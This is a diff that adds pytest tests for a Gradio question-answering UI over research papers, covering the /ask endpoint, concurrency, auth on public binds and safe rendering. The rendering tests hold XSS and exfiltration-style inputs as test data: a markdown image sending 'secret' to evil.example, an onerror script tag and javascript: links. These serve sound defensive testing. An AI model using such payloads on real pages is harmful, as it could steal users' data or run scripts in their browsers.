@@ -1,0 +1,273 @@
+"""The Gradio page: the /ask endpoint from gradio_client, concurrency, per-question settings, safe rendering,
+and the bind/auth check."""
+
+from __future__ import annotations
+
+import socket
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+
+import gradio as gr
+import gradio_client
+import pytest
+from pydantic import SecretStr
+
+from assistant import ui
+from assistant.errors import ConfigError
+from assistant.types import Answer, Citation, Paper, Passage
+from assistant.ui import render
+from assistant.ui.handlers import Handlers
+
+NTK = "What does the neural tangent kernel describe?"
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+@pytest.fixture(scope="module")
+def url(assistant: object) -> Iterator[str]:
+    app = ui.build_app(assistant)  # type: ignore[arg-type]
+    local = ui.launch(app, host="127.0.0.1", port=free_port(), block=False)
+    yield local
+    app.close()
+
+
+def ask(url: str, question: str) -> dict[str, object]:
+    client = gradio_client.Client(url, verbose=False)
+    return client.predict(question, api_name="/ask")
+
+
+def test_ask_endpoint_returns_cited_json(url: str) -> None:
+    result = ask(url, NTK)
+    assert result["abstained"] is False
+    assert result["citations"], result
+    first = result["citations"][0]
+    assert set(first) >= {"n", "paper_id", "title", "quote"}
+    assert f"[{first['n']}]" in result["answer"]
+    assert "Neural Tangent Kernel" in result["answer"]
+
+
+def test_ask_endpoint_reports_bad_questions_without_traceback(url: str) -> None:
+    client = gradio_client.Client(url, verbose=False)
+    with pytest.raises(Exception) as info:
+        client.predict("   ", api_name="/ask")
+    message = str(info.value)
+    assert "question is empty" in message
+    assert "Traceback" not in message
+
+
+def test_eight_clients_at_once_all_succeed(url: str) -> None:
+    questions = [NTK, "Which papers study post-training quantization?"] * 4
+    with ThreadPoolExecutor(max_workers=8) as pool:
+        results = list(pool.map(lambda q: ask(url, q), questions))
+    assert len(results) == 8
+    for result in results:
+        assert result["citations"] and not result["abstained"], result
+    assert results[0]["answer"] == results[2]["answer"]  # same question, same answer under load
+
+
+# -- binding and auth -----------------------------------------------------------------------------------
+def test_loopback_needs_no_password() -> None:
+    assert ui.resolve_auth("127.0.0.1", None) is None
+    assert ui.resolve_auth("localhost", None) is None
+    assert ui.resolve_auth("::1", None) is None
+
+
+def test_public_bind_without_auth_is_refused() -> None:
+    with pytest.raises(ConfigError, match="ASSISTANT_UI_AUTH"):
+        ui.resolve_auth("0.0.0.0", None)
+
+
+def test_public_bind_uses_auth_from_settings() -> None:
+    assert ui.resolve_auth("0.0.0.0", SecretStr("alice:s3cret:x")) == ("alice", "s3cret:x")
+    with pytest.raises(ConfigError, match="user:password"):
+        ui.resolve_auth("0.0.0.0", SecretStr("no-colon"))
+
+
+def test_no_auth_flag_warns_loudly(capsys: pytest.CaptureFixture[str]) -> None:
+    assert ui.resolve_auth("0.0.0.0", None, no_auth=True) is None
+    assert "WITHOUT a password" in capsys.readouterr().err
+
+
+def test_cli_refuses_public_bind_before_starting_anything(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from assistant import cli
+
+    def must_not_run(*args: object, **kwargs: object) -> None:
+        raise AssertionError("the server must not start")
+
+    monkeypatch.setattr(ui, "launch", must_not_run)
+    monkeypatch.setattr(cli, "_assistant", must_not_run)
+    assert cli.main(["serve", "--host", "0.0.0.0", "--port", "7999"]) == 2
+    err = capsys.readouterr().err
+    assert "refusing to serve on 0.0.0.0" in err and "Traceback" not in err
+
+
+def test_cli_passes_auth_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    from assistant import cli
+
+    seen: dict[str, object] = {}
+
+    class FakeAssistant:
+        def __init__(self) -> None:
+            from assistant.config import Settings
+
+            self.settings = Settings()
+
+        def papers(self) -> list[object]:
+            return []
+
+    monkeypatch.setenv("ASSISTANT_UI_AUTH", "reader:pw")
+    monkeypatch.setattr(cli, "_assistant", FakeAssistant)
+    monkeypatch.setattr(ui, "build_app", lambda assistant: "app")
+    monkeypatch.setattr(ui, "launch", lambda app, **kw: seen.update(kw) or "http://x")
+    assert cli.main(["serve", "--host", "0.0.0.0", "--port", "7999"]) == 0
+    assert seen["auth"] == ("reader", "pw") and seen["host"] == "0.0.0.0" and seen["port"] == 7999
+
+
+# -- the chat handler: per-question settings, follow-ups ----------------------------------------------------
+def final(events: list[tuple[object, ...]]) -> tuple[object, ...]:
+    return events[-1]
+
+
+def test_settings_panel_changes_the_answer_retrieval(assistant: object) -> None:
+    h = Handlers(assistant)  # type: ignore[arg-type]
+    default = final(list(h.respond(NTK, [], [], "extractive", "hybrid", 5)))
+    narrow = final(list(h.respond(NTK, [], [], "extractive", "bm25", 2)))
+    assert "All 5 retrieved papers" in default[3] and "All 2 retrieved papers" in narrow[3]
+    assert default[4] != narrow[4]  # the status line names a different settings hash
+    assert assistant.settings_for(retrieval_mode="bm25", top_k=2).settings_hash() in narrow[4]  # type: ignore[attr-defined]
+
+
+def test_unconfigured_answer_mode_is_a_gradio_error(assistant: object) -> None:
+    h = Handlers(assistant)  # type: ignore[arg-type]
+    with pytest.raises(gr.Error, match="not configured"):
+        list(h.respond(NTK, [], [], "openai", "hybrid", 5))
+
+
+def test_follow_up_uses_the_conversation_and_retires_old_links(assistant: object) -> None:
+    h = Handlers(assistant)  # type: ignore[arg-type]
+    _, chat, turns, _, _ = final(list(h.respond(NTK, [], [], "extractive", "hybrid", 5)))
+    assert 'href="#src-1-1"' in chat[1]["content"]
+    _, chat, turns, sources, _ = final(list(h.respond("How do they prove it?", chat, turns, "extractive", "hybrid", 5)))
+    assert len(turns) == 4 and len(chat) == 4
+    assert "aa-cite" not in chat[1]["content"].replace("aa-cite-old", "") and "aa-cite-old" in chat[1]["content"]
+    assert 'href="#src-2-1"' in chat[3]["content"] and 'id="src-2-1"' in sources
+    assert "Neural Tangent Kernel" in sources  # "they" was read as the NTK papers of the first question
+
+
+def test_empty_question_is_a_gradio_error_not_a_traceback(assistant: object) -> None:
+    with pytest.raises(gr.Error, match="Type a question"):
+        list(Handlers(assistant).respond("  ", [], [], "extractive", "hybrid", 5))  # type: ignore[arg-type]
+
+
+def test_unexpected_errors_hide_their_details(caplog: pytest.LogCaptureFixture) -> None:
+    class Broken:
+        def papers(self) -> list[Paper]:
+            raise RuntimeError("sk-secret-key leaked in a message")
+
+    with pytest.raises(gr.Error) as info:
+        Handlers(Broken()).filter_papers("")  # type: ignore[arg-type]
+    assert "sk-secret" not in str(info.value) and "server log" in str(info.value)
+    assert "sk-secret" in caplog.text  # the details go to the server log only
+
+
+# -- safe rendering ---------------------------------------------------------------------------------------
+EVIL = (
+    "See ![x](https://evil.example/p.png?q=secret) <img src=x onerror=alert(1)> [click](javascript:alert(1)) "
+    "https://evil.example/a www.evil.example me@evil.example **bold** `code` $$x$$ [1]"
+)
+
+
+def test_answer_bubble_shows_model_text_literally() -> None:
+    html = render.render_answer(EVIL, turn=3)
+    for markup in ("<img", "![", "](", "$$", "**", "`", "://", "www.", "@evil"):
+        assert markup not in html, markup
+    assert "<a " not in html.replace('<a class="aa-cite" href="#src-3-1" title="show source 1">', "")
+    assert "javascript&#58;" in html  # there as text, never as a link target
+
+
+def test_markers_link_only_to_resolved_citations() -> None:
+    citation = Citation(n=1, paper_id="p1", title="T", quote="q")
+    answer = Answer(question="q", text="Claim [1]. Other [7].", citations=[citation], abstained=False, settings_hash="h")
+    html = render.render_answer(answer.text, 1, answer)
+    assert html.count('class="aa-cite"') == 1 and 'href="#src-1-1"' in html and "&#91;7&#93;" in html
+
+
+def test_retired_links_keep_their_numbers() -> None:
+    bubble = render.render_answer("A [1] and [2].", 1)
+    retired = render.retire_links(bubble)
+    assert "href" not in retired and retired.count("aa-cite-old") == 2 and "[2]" in retired
+
+
+def paper(url: str | None, **kw: object) -> Paper:
+    fields = {"id": "p1", "title": "<script>alert(1)</script>", "abstract": "Intro <b>bold</b>. We show $x$ works. End."}
+    return Paper(**{**fields, "url": url, "authors": ["A <i>B</i>"], **kw})  # type: ignore[arg-type]
+
+
+def cited(p: Paper, quote: str = "We show $x$ works.") -> Answer:
+    return Answer(
+        question="q",
+        text="We show it [1].",
+        citations=[Citation(n=1, paper_id=p.id, title=p.title, quote=quote)],
+        abstained=False,
+        settings_hash="h",
+        passages=[Passage(paper_id=p.id, title=p.title, score=0.5, text=p.abstract)],
+    )
+
+
+def test_source_cards_escape_everything_and_mark_the_quote() -> None:
+    p = paper("javascript:alert(1)")
+    html = render.render_sources(cited(p), {"p1": p}, turn=2)
+    assert "<script>" not in html and "<b>" not in html and "<i>" not in html and "<img" not in html
+    assert "href" not in html.replace('href="#', "")  # an unsafe URL gives no link at all
+    assert '<mark id="src-2-1" title="quoted as [1]">We show &#36;x&#36; works.</mark>' in html
+    assert "score 0.500" in html
+
+
+def test_cards_link_only_to_the_papers_own_http_url() -> None:
+    p = paper("https://arxiv.org/abs/1806.07572")
+    html = render.render_sources(cited(p), {"p1": p}, turn=1) + render.render_paper(p)
+    links = [part.split('"', 1)[0] for part in html.split('href="')[1:]]
+    assert links == ["https://arxiv.org/abs/1806.07572"] * 2
+    assert 'rel="noopener noreferrer nofollow"' in html
+
+
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", "data:text/html,hi", "//evil.example/x", "/local", "https://a b.example", None, ""]
+)
+def test_unsafe_urls_are_dropped(url: str | None) -> None:
+    assert render.safe_url(url) is None
+
+
+def test_a_quote_not_in_the_abstract_still_gets_its_anchor() -> None:
+    p = paper(None)
+    html = render.render_sources(cited(p, quote="A paraphrase <u>not</u> in the text."), {"p1": p}, turn=4)
+    assert '<mark id="src-4-1"' in html and "&lt;u&gt;not&lt;/u&gt;" in html
+
+
+def test_abstention_looks_different() -> None:
+    answer = Answer(
+        question="q",
+        text="The provided abstracts do not answer this question.",
+        citations=[],
+        abstained=True,
+        settings_hash="h",
+        passages=[Passage(paper_id="p9", title="Closest", score=0.1, text="Something else.")],
+    )
+    bubble = render.render_answer(answer.text, 1, answer)
+    assert "aa-abstain" in bubble and "aa-answer" not in bubble
+    sources = render.render_sources(answer, {}, 1)
+    assert "Closest papers" in sources and "aa-closest" in sources
+
+
+def test_paper_search_matches_every_word_anywhere() -> None:
+    papers = [paper(None, id="a1", title="Zebra nets"), paper(None, id="b2", title="Other", authors=["Ada Stripe"])]
+    assert [r[0] for r in render.paper_rows(papers, "zebra")] == ["a1"]
+    assert [r[0] for r in render.paper_rows(papers, "STRIPE")] == ["b2"]
+    assert [r[0] for r in render.paper_rows(papers, "")] == ["a1", "b2"]
+    assert render.paper_rows(papers, "zebra stripe") == []
